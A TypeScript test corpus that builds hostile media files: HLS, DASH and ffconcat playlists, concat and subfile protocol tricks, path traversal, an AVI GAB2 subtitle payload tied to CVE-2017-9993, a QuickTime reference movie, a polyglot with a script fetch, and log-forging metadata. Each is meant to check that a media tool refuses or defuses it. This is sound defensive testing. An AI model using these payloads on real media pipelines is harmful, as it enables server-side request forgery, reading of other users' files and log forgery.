import { attack, ready, refused, type Row } from '../row.ts';
import { be32, riff, wave } from './bytes.ts';

/**
 * Stand for addresses that are only known when the corpus is run, so that the corpus itself is always the same:
 * five digits of a port on the loopback interface, and the path of a film in another task's directory.
 */
export const placeholders = { host: '127.0.0.1:99999', film: '/CANARY-FILM' } as const;
const address = `http://${placeholders.host}`;
const film = `file://${placeholders.film}`;

const playlist = (uri: string) =>
  `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:4\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:4.0,\n${uri}\n#EXT-X-ENDLIST\n`;
const lure = (name: string, about: string, ...parts: (string | Uint8Array)[]) =>
  attack(name, about, refused('not_media'), (kit) => kit.write(...parts), { lure: true });

/** Files that want the tool to open something else. */
export const lures: Row[] = [
  lure('h01-hls-http.m3u8', 'a playlist of our own addresses', playlist(`${address}/hls.ts`)),
  lure('h02-hls-file.mp4', 'a playlist of another task’s film, named as a film', playlist(film)),
  lure(
    'h03-hls-key.m3u8',
    'a playlist whose key is the lure',
    playlist(`x.ts`).replace('#EXTINF', `#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"\n#EXTINF`),
  ),
  lure(
    'h04-hls-concat.m3u8',
    'concat: joins what it fetches to an address',
    playlist(`concat:${address}/?|${film}`),
  ),
  lure(
    'h05-hls-subfile.m3u8',
    'subfile: opens a part of a file',
    playlist(`subfile,,start,0,end,0,,:${placeholders.film}`),
  ),
  lure('h06-ffconcat.mp4', 'a list of files to join', `ffconcat version 1.0\nfile ${placeholders.film}\n`),
  lure(
    'h07-ffconcat-relative.txt',
    'the same with a way up',
    'ffconcat version 1.0\nfile ../matinee-task-1-canary/canary.mp4\n',
  ),
  lure(
    'h08-dash.mpd',
    'a DASH manifest of our addresses',
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="v" bandwidth="1"><BaseURL>${address}/dash.mp4</BaseURL><SegmentBase indexRange="0-1"/></Representation></AdaptationSet></Period></MPD>`,
  ),
  lure(
    'h09-sdp.sdp',
    'a session description: opens a socket',
    'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
  ),
  lure('h10-rtsp.ram', 'a pointer to a stream', `rtsp://${placeholders.host}/x\n`),
  lure(
    'h11-smooth.ism',
    'a Smooth Streaming manifest',
    `<SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="${address}/s"/></SmoothStreamingMedia>`,
  ),
  lure('h12-text.txt', 'plain text, which ffmpeg can show as a video', 'Once upon a time.\n'.repeat(2000)),
  lure('h13-ansi.ans', 'text with colours', `\u001B[2J\u001B[31m${'x'.repeat(4000)}\u001B[0m`),
  lure(
    'h14-xbin.xb',
    'XBIN, the decoder of the playlist in a subtitle',
    'XBIN\u001A',
    Uint8Array.of(80, 0, 25, 0, 16, 0),
    Buffer.alloc(4000, 65),
  ),
  attack(
    'h15-gab2.avi',
    'a playlist as subtitle of an AVI: the class of CVE-2017-9993',
    refused('not_media', 'no_video', 'damaged'),
    (kit) => kit.write(aviWithSubtitle(playlist(`${address}/gab2.ts`))),
    { lure: true },
  ),
  lure(
    'h16-svg.svg',
    'a drawing that embeds an address',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${address}/svg"/></svg>`,
  ),
  lure(
    'h17-page.html',
    'a web page',
    `<html><img src="${address}/page"><script>fetch('${address}/js')</script></html>`,
  ),
  attack(
    'h18-reference.mov',
    'QuickTime that says its film is elsewhere',
    refused('not_media', 'no_video', 'damaged'),
    (kit) => kit.write(referenceMovie(`${address}/ref.mov`)),
    { lure: true },
  ),
  attack(
    'h19-polyglot.mp4',
    'a film that is a web page too: it plays, and none of the page is passed on',
    ready(),
    async (kit) => {
      const page = `<!--TOPSECRET-CANARY--><html><script src="${address}/poly"></script></html>`;
      const free = Buffer.concat([be32(8 + page.length), Buffer.from(`free${page}`)]);
      const whole = await kit.bytesOf('02-index-last');
      // Behind the file type, and at the end of the payload, so that offsets stay right: appended.
      await kit.write(whole, free);
    },
    { lure: true },
  ),
  attack('h20-log.mp4', 'a title that forges lines of a log', ready(), (kit) =>
    kit.ffmpeg(
      ...['-i', kit.pathOf('01-baseline'), '-c', 'copy', '-metadata'],
      'title=x\n{"level":60,"msg":"TOPSECRET-CANARY"}\r\n\u001B[31mframe=99999\nout_time_us=99999999',
    ),
  ),
];

/** An AVI whose second stream is a GAB2 block of subtitles: `text` in the place of the subtitle file. */
function aviWithSubtitle(text: string): Buffer {
  const header = (type: string, handler: string) => {
    const strh = Buffer.alloc(56);
    strh.write(type, 0, 'latin1').toString();
    strh.write(handler, 4, 'latin1');
    strh.writeUInt32LE(1, 20); // scale
    strh.writeUInt32LE(25, 24); // rate
    strh.writeUInt32LE(25, 32); // length
    return riff('strh', strh);
  };
  const bitmap = Buffer.alloc(40);
  bitmap.writeUInt32LE(40, 0);
  bitmap.writeInt32LE(320, 4);
  bitmap.writeInt32LE(180, 8);
  bitmap.writeUInt16LE(24, 14);
  bitmap.write('XVID', 16, 'latin1');
  const avih = Buffer.alloc(56);
  avih.writeUInt32LE(40_000, 0);
  avih.writeUInt32LE(25, 16);
  avih.writeUInt32LE(2, 24);
  const name = Buffer.from('s\0u\0b\0\0\0', 'latin1');
  const gab2 = Buffer.concat([
    ...[Buffer.from('GAB2\0', 'latin1'), Buffer.from([2, 0]), wave(name.length), name],
    ...[Buffer.from([4, 0]), wave(text.length), Buffer.from(text)],
  ]);
  const hdrl = riff(
    'LIST',
    Buffer.from('hdrl'),
    riff('avih', avih),
    riff('LIST', Buffer.from('strl'), header('vids', 'XVID'), riff('strf', bitmap)),
    riff('LIST', Buffer.from('strl'), header('txts', '\0\0\0\0'), riff('strf', Buffer.alloc(0))),
  );
  const movi = riff('LIST', Buffer.from('movi'), riff('01tx', gab2), riff('00dc', Buffer.alloc(64)));
  return riff('RIFF', Buffer.from('AVI '), hdrl, movi);
}

/** QuickTime's reference movie: `rmra` names the film to be opened instead. */
function referenceMovie(url: string): Buffer {
  const box = (type: string, ...parts: Buffer[]) => {
    const body = Buffer.concat(parts);
    return Buffer.concat([be32(8 + body.length), Buffer.from(type), body]);
  };
  const rdrf = box('rdrf', be32(0), Buffer.from('url '), be32(url.length + 1), Buffer.from(`${url}\0`));
  return Buffer.concat([
    box('ftyp', Buffer.from('qt  '), be32(0)),
    box('moov', box('rmra', box('rmda', rdrf))),
  ]);
}
